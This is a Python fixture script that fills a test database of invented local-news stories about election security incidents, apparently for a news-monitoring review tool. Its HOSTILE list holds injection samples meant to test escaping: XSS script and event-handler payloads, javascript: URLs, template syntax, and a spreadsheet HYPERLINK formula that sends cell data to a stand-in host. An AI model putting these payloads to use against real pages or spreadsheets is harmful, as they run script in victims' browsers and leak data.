"""A small database of made-up stories to review, hostile ones among them. Every sentence is ours.

python -m tests.review.sample FILE     writes it there
"""

import hashlib
import json
import re
import sqlite3
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path

from storage.stories import story_rows

SCHEMA = Path(__file__).parents[2] / "storage" / "schema"
NOW = datetime.now(UTC).replace(microsecond=0)

FEEDS = [  # slug, name, owner, region, language
    ("harbor-daily", "Harbor Daily", "Quay Media", "US-ME", "en"),
    ("valley-dispatch", "Valley Dispatch", "Quay Media", "US-AZ", "en"),
    ("northfork-gazette", "Northfork Gazette", None, "US-WI", "en"),
    ("statehouse-wire", "Statehouse Wire", None, "US", "en"),
    ("metro-ledger", "Metro Ledger", "Ledger Group", "US-PA", "en"),
    ("riverbend-post", "Riverbend Post", "Ledger Group", "US-GA", "en"),
    ("la-voz-del-valle", "La Voz del Valle", None, "US-AZ", "es"),
    ("civic-tech-notes", "Civic Tech Notes", None, None, "en"),
    ("plains-observer", "Plains Observer", "Plains Press", "US-NE", "en"),
    ("silent-county", "Silent County News", None, "US-NV", "en"),
]
RULES = [  # slug, title, severity, category, query
    ("election-office-ransomware", "Ransomware at an election office", "critical", "infrastructure",
     '(ransomware OR malware OR "systems were encrypted") NEAR/20 ("election office" OR "county clerk" OR "voter registration")'),
    ("threats-election-workers", "Threats to election workers", "critical", "threats",
     '(threat* OR harass* OR intimidat*) NEAR/15 ("election worker" OR "election workers" OR "poll worker" OR "county clerk")'),
    ("voting-equipment-access", "Unauthorised access to voting equipment", "high", "equipment",
     '("unauthorized access" OR tamper* OR breach*) NEAR/15 (tabulator* OR "voting machine" OR "voting machines")'),
    ("false-voting-information", "False information on when or where to vote", "high", "disinformation",
     '(false OR misleading OR fake) NEAR/12 ("polling place" OR "text messages" OR "voting hours")'),
    ("ballot-drop-box", "Damage to ballot drop boxes", "medium", "physical-security", '"drop box" SENTENCE (fire OR damaged OR vandal*)'),
    ("audit-litigation", "Lawsuits on audits and certification", "low", "litigation", '(lawsuit OR court) NEAR/15 (certification OR audit)'),
]  # fmt: skip
STORIES = [  # rule numbers, title, passage with the terms, terms
    ([0], "Ransomware shuts Alder County election office for a second day",
     "The county clerk said ransomware had locked the voter registration desk's computers shortly before dawn, and staff went back to paper forms.",
     [("ransomware", 0), ("county clerk", 1), ("voter registration", 1)], 6),
    ([1, 0], "County clerk in Marrow Falls describes threats after malware cleanup",
     "The county clerk said threats against election workers began within hours of the malware notice, and two employees now park behind the sheriff's office.",
     [("threats", 0), ("election workers", 1), ("county clerk", 1), ("malware", 2)], 3),
    ([2], "Tabulators resealed after unauthorized access at Pine Hollow warehouse",
     "Inspectors found signs of unauthorized access to two tabulators kept at the Pine Hollow warehouse; both were taken out of service and sealed again before witnesses.",
     [("unauthorized access", 0), ("tabulators", 1)], 4),
    ([3], "Fake text messages send Cedar Bluff voters to a closed polling place",
     "Several residents forwarded fake text messages that named a polling place closed since 2019 and gave the wrong voting hours.",
     [("fake", 0), ("text messages", 1), ("polling place", 1), ("voting hours", 1)], 2),
    ([4], "Drop box outside Larkspur library damaged overnight",
     "A drop box outside the Larkspur library was damaged overnight by a small fire; 14 ballots could be read and their owners were called.",
     [("drop box", 0), ("damaged", 1), ("fire", 1)], 2),
    ([5], "Court declines to halt certification in Tamarack Township",
     "A court turned down the request to stop certification, noting that the audit had found a difference of three ballots.",
     [("court", 0), ("certification", 1), ("audit", 1)], 1),
    ([1], "Amenazas a funcionarios: la secretaria del condado pide protección",
     "La oficina recibió mensajes con threats a cada poll worker del distrito, según la secretaria; la policía investiga tres números.",
     [("threats", 0), ("poll worker", 1)], 1),
    ([2], "Audit finds no tampering with voting machines in Quill County",
     "The review found no tampering with voting machines and recommended new seals for the storage cages.",
     [("tampering", 0), ("voting machines", 1)], 1),
]  # fmt: skip
HOSTILE = [
    ("<script>alert(1)</script> tabulators & \"quotes\" <img src=x onerror=alert(2)>", "javascript:alert(document.domain)"),
    ("=HYPERLINK(\"http://collect.example/?\"&A1,\"tabulators\")", "https://hostile.example/a\"onmouseover=\"alert(3)"),
    ("\u202egnihtemos\u2066 tabulators {{ 7 * 7 }} {% raw %}", "data:text/html,<script>alert(4)</script>"),
    ("**bold** [tabulators](javascript:alert(5)) <b>not bold</b>", "https://hostile.example/fine?x=1&y=<2>"),
]  # fmt: skip
FILL = [
    "The board meets again on Thursday, and the session is open to the public.",
    "State officials said that early voting elsewhere had gone on as planned.",
    "The county has set aside money for new locks and cameras since the spring.",
    "A spokesperson for the secretary of state confirmed the report and named no suspect.",
    "Volunteers from both parties watched the count and signed the log at each step.",
    "Neighbouring counties offered printers, and one lent a generator.",
    "Residents can look up their registration on the official site or by telephone.",
    "An outside firm has been asked to go through the logs and will report within ten days.",
]


def iso(at: datetime) -> str:
    return at.strftime("%Y-%m-%dT%H:%M:%S.000Z")


def empty(path: Path) -> sqlite3.Connection:
    connection = sqlite3.connect(path)
    connection.execute("PRAGMA page_size = 8192")
    connection.execute("PRAGMA journal_mode = WAL")
    scripts = sorted(SCHEMA.glob("[0-9]*.sql"))
    for script in scripts:
        connection.executescript(script.read_text(encoding="utf-8"))
    connection.execute("PRAGMA foreign_keys = ON")
    connection.execute("PRAGMA application_id = 0x504F4C57")
    connection.execute(f"PRAGMA user_version = {len(scripts)}")
    return connection


def write(path: Path) -> Path:
    connection = empty(path)
    with connection:
        _frame(connection)
        for number, story in enumerate(STORIES * 3):
            _story(connection, number, *story)
        for number, (title, url) in enumerate(HOSTILE):
            passage = f"{title} near tabulators, with unauthorized access </p><p onclick=alert(6)>."
            _story(
                connection,
                50 + number,
                [2],
                title,
                passage,
                [("tabulators", 1), ("unauthorized access", 0)],
                1,
                url,
            )
    _stories(connection)
    connection.execute("ANALYZE")
    connection.commit()
    connection.close()
    return path


def _stories(connection: sqlite3.Connection) -> None:
    """Rows and chips as the pipeline makes them."""
    stories = [row[0] for row in connection.execute("SELECT DISTINCT story_id FROM hits")]
    for story in stories:
        touched = story_rows.TouchedStories()
        touched.add(story)
        moment = connection.execute(
            "SELECT last_seen_at FROM stories WHERE id = ?", [story]
        ).fetchone()[0]
        story_rows.refresh_stories(connection, touched, moment)


def _frame(c: sqlite3.Connection) -> None:
    for day in reversed(range(6)):
        at = NOW - timedelta(days=day, minutes=12)
        stats = json.dumps({"feeds_polled": 10, "articles_read": 240 - day, "new_hits": 9 - day})
        c.execute(
            "INSERT INTO runs (flow, code_version, ruleset_sha256, started_at, finished_at, state, message, stats_json) VALUES ('watch', '0.1.0', ?, ?, ?, ?, ?, ?)",
            ["ab" * 32, iso(at), iso(at + timedelta(minutes=3)), "completed-with-errors" if day == 2 else "completed", "2 feeds failed" if day == 2 else "", stats],
        )  # fmt: skip
    for number, (slug, name, owner, region, language) in enumerate(FEEDS):
        ok = number < 8
        c.execute(
            """INSERT INTO feeds (slug, name, url, outlet, owner, category, language, region, last_polled_at, last_ok_at, last_entry_at, next_poll_at,
            last_outcome, last_sentence, failures, failure_weight, added_at) VALUES (?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?)""",
            [slug, name, f"https://{slug}.example/feed.xml", name, owner, "local", language, region, iso(NOW - timedelta(minutes=12)),
             iso(NOW - timedelta(minutes=12) if ok else NOW - timedelta(days=4)), iso(NOW - timedelta(hours=2)), iso(NOW + timedelta(minutes=40)),
             "ok" if ok else "http-403" if number == 8 else "dns", "" if ok else "The server answers 403 Forbidden." if number == 8 else "The name cannot be found.", 0 if ok else 5, 0 if ok else 5, iso(NOW - timedelta(days=90))],
        )  # fmt: skip
        for hour in range(24):
            c.execute(
                "INSERT INTO polls (feed_id, run_id, polled_at, outcome, sentence, http_status, duration_ms, entries_seen, entries_new, gap) VALUES (?,6,?,?,?,?,?,?,?,?)",
                [number + 1, iso(NOW - timedelta(hours=hour, minutes=12)), "ok" if ok else "http-403", "", 200 if ok else 403, 120, 20 if ok else 0, 2 if ok else 0, int(number == 3 and hour == 5)],
            )  # fmt: skip
    for number, (slug, title, severity, category, query) in enumerate(RULES):
        c.execute("INSERT INTO rules (slug, title, severity, category, status, description, path, line, current_version_id) VALUES (?,?,?,?,'stable',?,?,?,?)",
                  [slug, title, severity, category, f"{title}, in the news.", f"rules/{category}.yaml", 4 + number * 12, number + 1])  # fmt: skip
        c.execute("INSERT INTO rule_versions (rule_id, version, sha256, query, severity, category, label, definition_json, created_at) VALUES (?,1,?,?,?,?,?,?,?)",
                  [number + 1, hashlib.sha256(slug.encode()).hexdigest(), query, severity, category, f"{slug} v1", json.dumps({"id": slug, "title": title, "query": query}), iso(NOW - timedelta(days=90))])  # fmt: skip


def _story(
    c: sqlite3.Connection, number: int, rules: list[int], title: str, passage: str, terms: list[tuple[str, int]], copies: int, url: str = "",
) -> None:  # fmt: skip
    first = NOW - timedelta(hours=5 * number + 1)
    title = title if url or number < len(STORIES) else f"{title}, part {number // len(STORIES) + 1}"
    story = c.execute("INSERT INTO stories (title, first_article_id, language, copies, outlets, owners, first_seen_at, last_seen_at) VALUES (?,0,'en',?,?,?,?,?)",
                      [title, copies, copies, copies, iso(first), iso(min(first + timedelta(hours=2), NOW))]).lastrowid  # fmt: skip
    for copy in range(copies):
        feed = (number + copy) % 8
        article = _article(
            c,
            number,
            copy,
            feed,
            title,
            passage,
            url,
            int(story or 0),
            min(first + timedelta(minutes=25 * copy), NOW),  # tomorrow is no day of the charts
        )
        for rule in rules:
            _hit(
                c,
                article,
                int(story or 0),
                rule,
                feed,
                terms,
                min(first + timedelta(minutes=25 * copy), NOW),  # tomorrow is no day of the charts
                title,
            )


def _body(number: int, copy: int, passage: str) -> str:
    fill = FILL[number % 3 :] + FILL[: number % 3]
    own = f"This edition adds: officials of district {copy + 1} will hold a briefing at noon."
    return "\n".join([fill[0], fill[1], passage, *fill[2:6], *([own] if copy else []), *fill[6:]])


def _article(
    c: sqlite3.Connection, number: int, copy: int, feed: int, title: str, passage: str, url: str, story: int, at: datetime
) -> tuple[int, str, str]:  # fmt: skip
    _, name, owner, region, language = FEEDS[feed]
    body = _body(number, copy, passage)
    sha = hashlib.sha256(f"{title}\n\n{body}".encode()).hexdigest()
    url = url or f"https://{FEEDS[feed][0]}.example/news/{number}-{copy}"
    article = c.execute(
        """INSERT INTO articles (title, url, url_canonical, url_hash, feed_id, outlet, owner, authors, language, region, published_at, first_seen_at, read_at, day, state, outcome,
        method, extractor, chars, text_sha256, versions, story_id, story_similarity, run_id, attempts, http_status) VALUES (?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,1,?,?,1,1,200)""",
        [title, url, url, hashlib.sha256(url.encode()).hexdigest(), feed + 1, name, owner, "J. Marlow", language, region, iso(at - timedelta(minutes=30)), iso(at), iso(at), iso(at)[:10], "read", "ok",
         "trafilatura", "trafilatura 2.3.1", len(body), sha, story, 0.93 if copy else None],
    ).lastrowid  # fmt: skip
    assert article
    c.execute(
        "INSERT INTO article_texts (article_id, title, body) VALUES (?,?,?)", [article, title, body]
    )
    c.execute("INSERT INTO text_versions (article_id, text_sha256, first_read_at, title, body, method, extractor, chars, run_id) VALUES (?,?,?,?,NULL,'trafilatura','trafilatura 2.3.1',?,1)", [article, sha, iso(at), title, len(body)])  # fmt: skip
    c.execute(
        "UPDATE stories SET first_article_id = ? WHERE id = ? AND first_article_id = 0",
        [article, story],
    )
    return article, body, sha


def _hit(
    c: sqlite3.Connection, article: tuple[int, str, str], story: int, rule: int, feed: int, terms: list[tuple[str, int]],
    at: datetime, title: str,
) -> None:  # fmt: skip
    number, body, sha = article
    _, _, severity, category, query = RULES[rule]
    rank = ("low", "medium", "high", "critical").index(severity)
    names = [part.strip("() ") for part in re.split(r" (?:NEAR/\d+|SENTENCE) ", query)]
    hits = []
    for text, clause in terms:
        for field, whole in (("title", title), ("body", body)):
            at_char = whole.lower().find(text)
            if at_char >= 0:
                hits.append(
                    {
                        "field": field,
                        "start": at_char,
                        "end": at_char + len(text),
                        "text": whole[at_char : at_char + len(text)],
                        "clause": names[min(clause, len(names) - 1)],
                    }
                )
    lines = body.split("\n")
    start = len(lines[0]) + len(lines[1]) + 2
    sides: list[dict[str, object]] = [
        {"op": "OR", "text": name, "held": True, "evidence": [k for k, t in enumerate(hits) if t["clause"] == name]}
        for name in names
    ]  # fmt: skip
    tree = {
        "op": "AND",
        "text": query,
        "held": True,
        "clauses": [*sides, {"op": "NOT", "text": "film OR game", "held": True}],
    }
    hit = c.execute(
        """INSERT INTO hits (article_id, rule_id, rule_version_id, story_id, severity, severity_rank, category, day, feed_id, language, region, score, snippet, snippet_field, snippet_start,
        terms_json, clauses_json, text_sha256, evidence_sha256, created_at, relevance, relevance_json) VALUES (?,?,?,?,?,?,?,?,?,?,?,?,?,'body',?,?,?,?,?,?,?,?)""",
        [number, rule + 1, rule + 1, story, severity, rank, category, iso(at)[:10], feed + 1, FEEDS[feed][4], FEEDS[feed][3], 0.87, lines[2], start,
         json.dumps(hits), json.dumps(tree), sha, hashlib.sha256(f"{lines[2]}{rule}".encode()).hexdigest(), iso(at), round(0.95 - 0.13 * rule % 0.7, 2), json.dumps([["terms in headline", 1.2], ["opinion words", -0.4]])],
    ).lastrowid  # fmt: skip
    assert hit
    c.execute(
        "INSERT INTO hit_evidence SELECT id, rule_version_id, evidence_sha256, text_sha256, score, snippet, terms_json, clauses_json, 1, created_at FROM hits WHERE id = ?",
        [hit],
    )


if __name__ == "__main__":
    write(Path(sys.argv[1]))
